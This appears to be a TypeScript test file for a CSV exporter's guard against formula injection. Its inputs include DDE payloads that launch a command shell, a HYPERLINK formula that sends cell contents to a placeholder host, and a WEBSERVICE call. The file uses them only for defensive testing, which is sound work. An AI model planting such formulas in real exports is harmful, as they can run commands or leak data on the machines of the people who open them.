import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell } from './cells';
import { guarded, unguarded } from './formula-guard';

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
const before = ['', ' ', '   ', '"', "'", ' "', '\u00A0', '\u200B', '\uFEFF', '\u202E', '\'"', '\u3000'];
const formulas = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example?"&A1,"Open")',
  "SUM(1)*cmd|' /C calc'!A0",
  'WEBSERVICE("http://x.example")',
  'DDE("cmd","/C calc","x")',
];
const separators = [';', '\t', '\n', '\r\n', '\r'];

/** What a spreadsheet would see as cells where these part them: nothing protects but what the text itself begins with. */
function seenCells(written: string, separator: RegExp): string[] {
  return written.split(separator);
}

/** Whether a spreadsheet takes a cell for a formula, be it after blanks and quotation marks. */
const runs = (cell: string) => /^[\s"\u200B\uFEFF\u202E]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/.test(cell);

describe('a cell of a CSV file', () => {
  it('is no formula, whatever it begins with', () => {
    const wrong = signs.flatMap((sign) =>
      before.flatMap((start) => formulas.filter((formula) => runs(csvCell(`${start}${sign}${formula}`)))),
    );
    expect(wrong).toEqual([]);
    for (const start of ['\t', '\r', '\n']) expect(csvCell(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
  });

  it('is no formula after a semicolon, a tab or the end of a line either, where those part cells', () => {
    const wrong = separators.flatMap((separator) =>
      signs.flatMap((sign) =>
        before.flatMap((start) => seenCells(csvCell(`Amina${separator}${start}${sign}1+1`), /[;\t\r\n]/).filter(runs)),
      ),
    );
    expect(wrong).toEqual([]);
  });

  it('is as it was where nothing in it could run', () => {
    for (const text of [
      'Amina Warsame',
      'a=b',
      '5 - 3',
      'x@example.org',
      "O'Brien",
      'a; b',
      '2026-11-23',
      'سعر −5',
      '',
    ])
      expect([text, csvCell(text)]).toEqual([text, text.includes(';') ? `"${text}"` : text]);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
  });
});

it('an import reads every text as it was before the export', () => {
  const nasty = fc.array(fc.constantFrom(...signs, ...before, ...separators, 'a', '1', "'"), { maxLength: 8 });
  fc.assert(
    fc.property(
      fc.oneof(
        nasty.map((parts) => parts.join('')),
        fc.string(),
      ),
      (text) => {
        expect(unguarded(guarded(text))).toBe(text);
      },
    ),
    { numRuns: 5000 },
  );
});
